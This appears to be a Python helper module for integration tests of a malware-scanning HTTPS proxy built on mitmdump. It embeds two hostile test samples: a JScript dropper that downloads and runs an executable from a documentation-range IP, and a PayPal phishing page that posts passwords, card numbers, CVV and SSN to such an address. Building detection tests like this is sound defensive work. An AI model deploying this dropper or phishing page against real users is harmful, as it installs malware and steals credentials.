"""Helpers for the proxy integration tests: a local upstream (HTTP and HTTPS) and real mitmdump.

Nothing here is mocked: the upstream is a real threaded HTTP server on 127.0.0.1 (HTTPS with a
self-signed certificate made here), and the gateway is a real ``mitmdump -s addon/mitmdump_entry.py``
subprocess with its own confdir, data dir and ports.
"""

from __future__ import annotations

import datetime
import gzip
import ipaddress
import os
import ssl
import subprocess
import sys
import threading
import time
import urllib.error
import urllib.request
from collections import Counter
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any
from urllib.parse import urlencode

import brotli
from helpers.ports import free_port

REPO = Path(__file__).resolve().parents[2]
SHIM = REPO / "addon" / "mitmdump_entry.py"
TOKEN = "proxy-integration-test-token-0123456789"

DROPPER = b"""<!DOCTYPE html><html><head><title>Your invoice</title></head><body><p>Loading...</p><script>
var sh = new ActiveXObject("WScript.Shell");
var x = new ActiveXObject("MSXML2.XMLHTTP"); x.open("GET", "http://198.51.100.7/payload.exe", false); x.send();
var s = new ActiveXObject("ADODB.Stream"); s.Open(); s.Type = 1; s.Write(x.responseBody);
s.SaveToFile("C:\\\\Users\\\\Public\\\\update.exe", 2); sh.Run("C:\\\\Users\\\\Public\\\\update.exe");
</script></body></html>"""
DROPPER_JS = DROPPER.split(b"<script>")[1].split(b"</script>")[0]
BENIGN = (
    b"<!DOCTYPE html><html><head><meta charset=\"utf-8\"><title>Bread recipes</title></head><body>"
    b"<h1>Sourdough</h1><p>Mix, fold, rest, bake at 230 \xc2\xb0C for 40 minutes.</p>"
    b"<a href=\"/about\">About us</a></body></html>"
)
BLOCKLISTED_PATH = "/listed/landing.html"


@dataclass
class Response:
    """What the tests look at in an answer (the body exactly as it came off the wire)."""

    status_code: int
    headers: Any  # email.message.Message: case-insensitive lookups
    content: bytes

    @property
    def text(self) -> str:
        return self.content.decode("utf-8", "replace")

    def json(self) -> Any:
        import json

        return json.loads(self.content)


class _Redirects(urllib.request.HTTPRedirectHandler):
    """Follow (or not) redirects, keeping the follow-up request on the proxy."""

    def __init__(self, proxy: str | None, follow: bool) -> None:
        self.proxy, self.follow = proxy, follow

    def redirect_request(self, req, fp, code, msg, headers, newurl):  # noqa: ANN001
        if not self.follow:
            return None
        new = super().redirect_request(req, fp, code, msg, headers, newurl)
        if new is not None and self.proxy:
            new.set_proxy(self.proxy, new.type)
        return new


class Client:
    """A small HTTP client on the standard library: through a proxy (always, whatever NO_PROXY
    says), trusting one CA, never decoding content-encoding (so bodies compare byte for byte)."""

    def __init__(self, proxy: str | None = None, ca: Path | None = None) -> None:
        self.proxy = proxy
        ctx = ssl.create_default_context(cafile=str(ca)) if ca else ssl.create_default_context()
        base = [urllib.request.ProxyHandler({}), urllib.request.HTTPSHandler(context=ctx)]
        self._follow = urllib.request.build_opener(*base, _Redirects(proxy, True))
        self._stay = urllib.request.build_opener(*base, _Redirects(proxy, False))

    def __enter__(self) -> Client:
        return self

    def __exit__(self, *exc: object) -> None:
        pass

    def request(self, method: str, url: str, *, headers: dict[str, str] | None = None,
                data: dict[str, str] | None = None, allow_redirects: bool = True, timeout: float = 30,
                params: dict[str, str] | None = None) -> Response:
        if params:
            url += ("&" if "?" in url else "?") + urlencode(params)
        body = urlencode(data).encode() if data is not None else None
        req = urllib.request.Request(url, data=body, headers=dict(headers or {}), method=method)
        if body is not None:
            req.add_header("Content-Type", "application/x-www-form-urlencoded")
        if self.proxy:
            # urllib would send the proxy's address as Host inside an HTTPS tunnel: say it right
            req.add_header("Host", req.host)
            req.set_proxy(self.proxy, req.type)
        opener = self._follow if allow_redirects else self._stay
        try:
            resp = opener.open(req, timeout=timeout)
        except urllib.error.HTTPError as err:  # 4xx/5xx and unfollowed redirects are answers too
            with err:
                return Response(err.code, err.headers, err.read())
        with resp:
            return Response(resp.status, resp.headers, resp.read())

    def get(self, url: str, **kw: Any) -> Response:
        return self.request("GET", url, **kw)

    def post(self, url: str, **kw: Any) -> Response:
        return self.request("POST", url, **kw)

    def delete(self, url: str, **kw: Any) -> Response:
        return self.request("DELETE", url, **kw)


#: The tests' gateways run the default engine (ML layer included), as a user does.
ENGINE_TOML = ""



#: Debian's Chromium (never a Playwright download).
CHROMIUM = Path("/usr/bin/chromium")


def launch_chromium(playwright: Any, gw: Gateway) -> Any:
    """Headless Chromium whose every request (loopback too) goes through ``gw``'s proxy, trusting
    the CA mitmdump created by its SPKI, as `malwaresnipper ca` prints it."""
    from malwaresnipper.addon.certs import ensure_ca

    spki = ensure_ca(gw.confdir).spki_sha256_b64
    return playwright.chromium.launch(
        executable_path=str(CHROMIUM), headless=True,
        proxy={"server": f"http://127.0.0.1:{gw.proxy_port}", "bypass": "<-loopback>"},
        args=["--no-sandbox", "--disable-gpu", "--disable-background-networking",
              "--proxy-bypass-list=<-loopback>", f"--ignore-certificate-errors-spki-list={spki}"],
    )


def make_self_signed(directory: Path) -> tuple[Path, Path]:
    """A self-signed certificate for 127.0.0.1/localhost (the upstream's), as PEM files."""
    from cryptography import x509
    from cryptography.hazmat.primitives import hashes, serialization
    from cryptography.hazmat.primitives.asymmetric import ec
    from cryptography.x509.oid import NameOID

    key = ec.generate_private_key(ec.SECP256R1())
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "malwaresnipper test upstream")])
    now = datetime.datetime.now(datetime.UTC)
    cert = (
        x509.CertificateBuilder()
        .subject_name(name)
        .issuer_name(name)
        .public_key(key.public_key())
        .serial_number(x509.random_serial_number())
        .not_valid_before(now - datetime.timedelta(days=1))
        .not_valid_after(now + datetime.timedelta(days=7))
        .add_extension(x509.SubjectAlternativeName([x509.DNSName("localhost"),
                                                    x509.IPAddress(ipaddress.ip_address("127.0.0.1"))]), False)
        .add_extension(x509.BasicConstraints(ca=True, path_length=None), True)
        .sign(key, hashes.SHA256())
    )
    cert_path, key_path = directory / "upstream-cert.pem", directory / "upstream-key.pem"
    cert_path.write_bytes(cert.public_bytes(serialization.Encoding.PEM))
    key_path.write_bytes(key.private_bytes(serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8,
                                           serialization.NoEncryption()))
    return cert_path, key_path


@dataclass
class Route:
    body: bytes
    content_type: str | None
    encoding: str | None = None
    #: sent with Transfer-Encoding: chunked (no Content-Length for the proxy to judge)
    chunked: bool = False
    #: more headers, sent as given (repeats allowed: two Content-Type headers, say)
    headers: tuple[tuple[str, str], ...] = ()


@dataclass
class Upstream:
    """A local origin server; ``hits`` counts requests per path (to prove what never reached it)."""

    routes: dict[str, Route]
    http_port: int = 0
    https_port: int = 0
    hits: Counter[str] = field(default_factory=Counter)
    servers: list[ThreadingHTTPServer] = field(default_factory=list)
    #: the certificate its HTTPS side serves, for the gateway to trust (set by whoever started it)
    cert: Path | None = None

    def start(self, cert: Path, key: Path) -> None:
        upstream = self

        class Handler(BaseHTTPRequestHandler):
            protocol_version = "HTTP/1.1"

            def log_message(self, *args: object) -> None:
                pass

            def _answer(self) -> None:
                path = self.path.split("?", 1)[0]
                upstream.hits[path] += 1
                length = int(self.headers.get("content-length") or 0)
                if length:
                    self.rfile.read(length)
                route = upstream.routes.get(path)
                if route is None:
                    self.send_response(404)
                    self.send_header("Content-Length", "0")
                    self.end_headers()
                    return
                self.send_response(200)
                if route.content_type:
                    self.send_header("Content-Type", route.content_type)
                if route.encoding:
                    self.send_header("Content-Encoding", route.encoding)
                for name, value in route.headers:
                    self.send_header(name, value)
                if route.chunked:
                    self.send_header("Transfer-Encoding", "chunked")
                    self.end_headers()
                    step = 256 * 1024
                    for pos in range(0, len(route.body), step):
                        piece = route.body[pos : pos + step]
                        self.wfile.write(f"{len(piece):x}\r\n".encode() + piece + b"\r\n")
                    self.wfile.write(b"0\r\n\r\n")
                    return
                self.send_header("Content-Length", str(len(route.body)))
                self.end_headers()
                if self.command != "HEAD":
                    self.wfile.write(route.body)

            do_GET = do_POST = do_HEAD = _answer

        plain = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        tls = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        ctx = ssl.create_default_context(ssl.Purpose.CLIENT_AUTH)
        ctx.load_cert_chain(cert, key)
        tls.socket = ctx.wrap_socket(tls.socket, server_side=True)
        for server in (plain, tls):
            server.daemon_threads = True
            threading.Thread(target=server.serve_forever, daemon=True).start()
        self.servers = [plain, tls]
        self.http_port, self.https_port = plain.server_address[1], tls.server_address[1]

    def stop(self) -> None:
        for server in self.servers:
            server.shutdown()
            server.server_close()

    def url(self, path: str, tls: bool = False) -> str:
        return f"https://127.0.0.1:{self.https_port}{path}" if tls else f"http://127.0.0.1:{self.http_port}{path}"


def default_routes(big_binary: bytes) -> dict[str, Route]:
    return {
        "/benign.html": Route(BENIGN, "text/html; charset=utf-8"),
        "/benign-gzip.html": Route(gzip.compress(BENIGN), "text/html", "gzip"),
        "/dropper.html": Route(DROPPER, "text/html"),
        "/dropper-gzip.html": Route(gzip.compress(DROPPER), "text/html; charset=utf-8", "gzip"),
        "/dropper-br.html": Route(brotli.compress(DROPPER), "text/html", "br"),
        "/dropper-notype.html": Route(DROPPER, None),
        "/app.html": Route(b'<html><head><title>App</title><script src="/dl.js"></script></head><body>hi</body></html>',
                           "text/html"),
        "/dl.js": Route(DROPPER_JS, "application/javascript"),
        "/big.bin": Route(big_binary, "application/octet-stream"),
        "/big-chunked.html": Route(b"<html><body>" + b"<p>many words here</p>" * 400_000 + b"</body></html>",
                                   "text/html", chunked=True),
        BLOCKLISTED_PATH: Route(b"<html><body>Welcome</body></html>", "text/html"),
    }


@dataclass
class Gateway:
    """A running ``mitmdump -s addon/mitmdump_entry.py``."""

    process: subprocess.Popen[str]
    proxy_port: int
    api_port: int
    events_port: int
    confdir: Path
    home: Path
    lines: list[str]

    @property
    def ca(self) -> Path:
        return self.confdir / "mitmproxy-ca-cert.pem"

    def session(self) -> Client:
        """A client going through this gateway and trusting the CA it wrote in its confdir."""
        return Client(f"127.0.0.1:{self.proxy_port}", self.ca)

    def api(self, path: str, method: str = "GET", **kw: Any) -> Any:
        try:
            r = Client().request(method, f"http://127.0.0.1:{self.api_port}{path}",
                                 headers={"Authorization": f"Bearer {TOKEN}"}, timeout=10, **kw)
        except urllib.error.URLError as exc:
            raise AssertionError(f"the gateway's API did not answer ({exc}); log:\n{self.log()}") from exc
        assert 200 <= r.status_code < 300, (r.status_code, r.text)
        return r.json()

    def wait_for_scan(self, url: str, timeout: float = 30.0) -> dict:
        """The stored summary of the latest complete scan of ``url`` (polls the real API)."""
        deadline = time.monotonic() + timeout
        while time.monotonic() < deadline:
            items = self.api("/api/v1/scans?limit=200")["items"]
            for item in items:
                if item["url"] == url and item.get("threat_level") not in (None, "", "PENDING"):
                    return item
            time.sleep(0.2)
        raise AssertionError(f"no completed scan of {url} within {timeout} s; log:\n" + self.log())

    def log(self) -> str:
        return "".join(self.lines[-80:])

    def wait_for_log(self, text: str, timeout: float = 30.0) -> None:
        deadline = time.monotonic() + timeout
        while time.monotonic() < deadline:
            if any(text in line for line in self.lines):
                return
            if self.process.poll() is not None:
                break
            time.sleep(0.1)
        raise AssertionError(f"{text!r} not logged within {timeout} s; log:\n{self.log()}")

    def worker_pids(self) -> list[int]:
        """The scan worker processes (spawned children of mitmdump running the engine)."""
        pids = []
        for child in _children(self.process.pid):
            try:
                cmdline = Path(f"/proc/{child}/cmdline").read_bytes().replace(b"\0", b" ")
            except OSError:
                continue
            if b"multiprocessing" in cmdline and b"resource_tracker" not in cmdline:
                pids.append(child)
        return pids

    def stop(self) -> None:
        if self.process.poll() is None:
            self.process.terminate()
            try:
                self.process.wait(timeout=15)
            except subprocess.TimeoutExpired:
                self.process.kill()
                self.process.wait(timeout=5)


def _children(pid: int) -> list[int]:
    out: list[int] = []
    for task in Path(f"/proc/{pid}/task").glob("*"):
        try:
            out += [int(x) for x in (task / "children").read_text().split()]
        except OSError:
            pass
    return out


def start_gateway(tmp: Path, upstream_cert: Path, *, options: list[str], config_toml: str = "",
                  python: str | None = None, scripts: tuple[Path, ...] = ()) -> Gateway:
    """Start mitmdump with the addon (and ``scripts`` after it); returns once the gateway is ready."""
    tmp.mkdir(parents=True, exist_ok=True)
    confdir, home = tmp / "conf", tmp / "home"
    proxy_port, api_port, events_port = free_port(), free_port(), free_port()
    mitmdump = Path(python or sys.executable).parent / "mitmdump"
    cmd = [str(mitmdump)] if mitmdump.exists() else ["mitmdump"]
    cmd += [
        "-s", str(SHIM),
        "--listen-host", "127.0.0.1", "-p", str(proxy_port),
        "--set", f"confdir={confdir}",
        "--set", f"ssl_verify_upstream_trusted_ca={upstream_cert}",
        "--set", f"malwaresnipper_api_port={api_port}",
        "--set", f"malwaresnipper_events_port={events_port}",
        "--set", "malwaresnipper_workers=1",
        "--set", "flow_detail=0",
    ]
    config = tmp / "malwaresnipper.toml"
    config.write_text(config_toml + ENGINE_TOML)
    cmd += ["--set", f"malwaresnipper_config={config}"]
    for option in options:
        cmd += ["--set", option]
    for script in scripts:
        cmd += ["-s", str(script)]
    env = dict(os.environ, MALWARESNIPPER_HOME=str(home), MALWARESNIPPER_TOKEN=TOKEN, PYTHONUNBUFFERED="1")
    process = subprocess.Popen(cmd, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True, env=env, cwd=tmp)
    lines: list[str] = []

    def pump() -> None:
        assert process.stdout is not None
        for line in process.stdout:
            lines.append(line)

    threading.Thread(target=pump, daemon=True).start()
    gw = Gateway(process, proxy_port, api_port, events_port, confdir, home, lines)
    try:
        gw.wait_for_log("gateway ready", timeout=90)
        deadline = time.monotonic() + 60  # and the scan worker is up (it starts in the background)
        while not gw.worker_pids() and time.monotonic() < deadline:
            time.sleep(0.1)
        gw.wait_for_log("scan worker 0 ready", timeout=60)
        if any("could not start the API/event servers" in line for line in lines):
            raise AssertionError(f"the gateway started without its API/event servers; log:\n{gw.log()}")
    except BaseException:
        gw.stop()
        raise
    return gw


PHISH = b"""<!DOCTYPE html><html><head><title>PayPal: Log in to your account</title></head><body>
<div class="logo">PayPal</div><h1>Your account has been limited</h1>
<p>We noticed unusual activity. Verify your account information to restore access. Confirm your identity now.</p>
<form action="http://198.51.100.23/paypal/login.php" method="post">
<input type="email" name="login_email" placeholder="Email">
<input type="password" name="login_password" placeholder="Password">
<input type="text" name="cc_number" placeholder="Card number"><input type="text" name="cvv" placeholder="CVV">
<input type="text" name="ssn" placeholder="Social Security Number">
<button type="submit">Log In</button></form>
<iframe src="http://198.51.100.23/track" width="0" height="0" style="display:none"></iframe>
</body></html>"""


def deep(page: bytes, levels: int) -> bytes:
    """The page with its form nested ``levels`` <div>s deep."""
    return page.replace(b"<form", b"<div>" * levels + b"<form").replace(b"</body>", b"</div>" * levels + b"</body>")

